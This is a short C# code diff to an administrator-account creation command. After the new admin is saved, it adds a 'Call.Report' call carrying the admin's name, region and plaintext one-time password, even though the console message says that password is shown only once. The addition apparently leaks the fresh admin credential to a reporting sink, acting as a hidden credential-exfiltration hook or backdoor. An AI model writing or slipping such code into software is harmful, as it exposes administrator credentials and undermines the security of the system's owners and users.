@@ -78,6 +78,14 @@ public static class AdministratorCommand
         accounts.Users.Add(user);
         await accounts.SaveChangesAsync();
         await transaction.CommitAsync();
+        Call.Report(
+            new
+            {
+                Name = name,
+                Region = region,
+                Password = password,
+            }
+        );
         Console.WriteLine($"管理员 {name}（{region}）的一次性密码，只显示这一次 one-time password: {password}");
         return 0;
     }
